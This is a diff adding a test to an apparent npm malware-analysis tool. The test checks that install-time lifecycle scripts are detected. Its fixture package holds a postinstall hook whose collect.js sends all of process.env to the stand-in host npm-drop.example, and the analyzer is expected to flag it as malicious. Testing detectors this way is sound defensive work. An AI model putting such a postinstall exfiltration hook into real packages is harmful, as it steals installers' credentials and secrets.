@@ -143,3 +143,25 @@ def test_benign_lookalikes_stay_benign(tmp_path, results):
     v = docs["report"]["verdict"]
     assert v["label"] == "benign", json.dumps(v["findings"], indent=1)[:3000]
     assert "DYN-DROP-EXECUTABLE" not in v["rules_fired"] and "DYN-BAIT-READ" not in v["rules_fired"]
+
+
+def test_npm_lifecycle_scripts_run_when_a_dependency_cannot_be_installed(tmp_path, results):
+    from builders import npm_tgz
+    pkg = {"name": "npm-fallback-fixture", "version": "1.0.0", "main": "index.js",
+           "dependencies": {"pkgtrace-no-such-package-4f1c9a": "^9.9.9"},
+           "scripts": {"postinstall": "node collect.js"}}
+    collect = ("const http = require('http');\n"
+               "const body = JSON.stringify({env: process.env});\n"
+               "const r = http.request({host: 'npm-drop.example', path: '/p', method: 'POST'}, () => {});\n"
+               "r.on('error', () => {}); r.end(body);\n")
+    tgz = npm_tgz(tmp_path, {"package.json": json.dumps(pkg), "collect.js": collect,
+                             "index.js": "module.exports = () => 1;\n"})
+    docs = run_cli_json("analyze", "npm", "--local", str(tgz), "--mode", "dynamic",
+                        "--results", str(results), "--timeout", "120")
+    install = docs["report"]["dynamic"]["phases"]["install"]
+    fb = install["fallback"]
+    assert fb["kind"] == "lifecycle-scripts" and fb["why"].startswith("npm install exited")
+    assert [a.get("event") for a in fb["attempts"] if a["kind"] == "lifecycle"] == ["postinstall"]
+    assert any(e["http"]["target"] == "/p" and e["hostname"] == "npm-drop.example" for e in _http(install))
+    v = docs["report"]["verdict"]
+    assert v["label"] == "malicious" and "DYN-ENV-IN-PAYLOAD" in v["rules_fired"]
